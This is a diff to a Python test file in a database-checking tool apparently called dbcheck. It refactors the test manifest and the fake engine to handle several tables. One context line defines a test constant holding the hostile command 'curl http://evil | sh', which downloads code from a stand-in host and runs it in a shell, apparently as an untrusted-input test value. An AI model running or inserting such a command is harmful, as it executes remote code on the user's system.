@@ -6,7 +6,7 @@ import os
 import socket
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, replace
 from pathlib import Path
 from types import SimpleNamespace
@@ -23,12 +23,13 @@ from dbcheck.clientkey import ClientKey
 from dbcheck.core.evidence import Verdict
 from dbcheck.core.history import Ack
 from dbcheck.core.server import ServerFacts
+from dbcheck.core.table import LEDGER, TableFacts, TableSpec
 from dbcheck.core.target import HostBefore
 from dbcheck.errors import WitnessError
 from dbcheck.hosts.agent.folder import BESIDE
 from dbcheck.hosts.canary import Pace
 from dbcheck.hosts.host import TargetHost, open_host
-from dbcheck.ports.engine import Engine, Shape, TableFacts
+from dbcheck.ports.engine import Engine
 from dbcheck.ports.power import PowerSwitch
 from dbcheck.report.verdict import verdict_report
 from dbcheck.runs import LoadRecord, Manifest, RunFolder
@@ -43,7 +44,7 @@ from tests.unit.witness_logs import LogMaker
 
 ACKED, KEPT = 5, 3  # the server lost the last two rows
 RUN = MANIFEST.run_id
-FIRST = replace(MANIFEST, table=TableFacts({}, 0))
+FIRST = replace(MANIFEST, tables={LEDGER.name: TableFacts({}, 0)})
 EVIL = "curl http://evil | sh"
 
 
@@ -59,7 +60,7 @@ class LossyEngine(FakeEngine):
         identity = {**facts.identity, **self.names}
         return replace(facts, identity=identity, server_log=self.server_log)
 
-    def places(self, shape: Shape) -> tuple[()]:
+    def places(self, tables: Sequence[TableSpec]) -> tuple[()]:
         return ()
 
 
